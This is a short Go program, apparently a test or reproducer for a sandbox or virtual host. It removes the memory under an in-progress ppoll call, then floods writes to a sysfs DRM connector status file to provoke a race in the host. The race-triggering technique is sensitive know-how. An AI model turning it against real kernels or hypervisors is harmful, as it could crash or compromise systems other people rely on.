package main

import (
	"encoding/binary"
	"os"
	"path/filepath"
	"runtime"

	"golang.org/x/sys/unix"
)

// polls polls a descriptor that never becomes ready, and takes the memory away in
// which the poll has found it. Then it opens a file of sysfs very often for writing:
// whoever writes, the host looks whether the poll waits for that. It writes to the
// last one, and holds.
func polls([]string) {
	const files = 1000
	limit := unix.Rlimit{Cur: 4096, Max: 4096}
	check(unix.Setrlimit(unix.RLIMIT_NOFILE, &limit))
	var pipe [2]int
	check(unix.Pipe2(pipe[:], unix.O_CLOEXEC))
	faults, page := missingPage()
	fd := binary.NativeEndian.AppendUint32(nil, uint32(pipe[0]))
	providePage(faults, page, binary.NativeEndian.AppendUint16(fd, unix.POLLIN))
	go func() {
		for {
			pollAt(page, 1) // until a signal
		}
	}()
	for inCall(unix.SYS_PPOLL) == 0 {
		runtime.Gosched()
	}
	takePage(page)
	path := must(filepath.Glob("/sys/class/drm/card0-Virtual-*/status"))[0]
	last := -1
	for range files {
		last = must(open(path, unix.O_WRONLY))
	}
	_ = must(unix.Write(last, []byte("on")))
	hold()
	os.Exit(0)
}
